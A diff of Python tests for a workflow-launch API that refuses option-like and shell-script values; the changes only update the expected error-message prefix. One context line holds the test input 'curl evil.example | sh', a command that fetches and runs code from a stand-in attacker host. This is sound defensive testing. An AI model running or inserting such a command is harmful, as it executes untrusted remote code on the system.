@@ -105,7 +105,7 @@ def test_tower_launch_fields_refuse_option_like_values(client, alice, db, field,
     count = run_count(db)
     response = client.post("/api/workflow/launch", headers=alice, json={"launch": launch})
     assert response.status_code == 400, response.text
-    assert response.json()["message"].startswith(f"{field}:"), response.json()
+    assert response.json()["message"].startswith(f"launch.{field}:"), response.json()
     assert run_count(db) == count
 
 
@@ -115,7 +115,7 @@ def test_shell_scripts_around_a_local_run_are_refused(client, alice, db, field):
     launch = {"pipeline": "nf-core/demo", field: "curl evil.example | sh"}
     response = client.post("/api/workflow/launch", headers=alice, json={"launch": launch})
     assert response.status_code == 400
-    assert response.json()["message"].startswith(f"{field}:")
+    assert response.json()["message"].startswith(f"launch.{field}:")
     assert run_count(db) == count
 
 
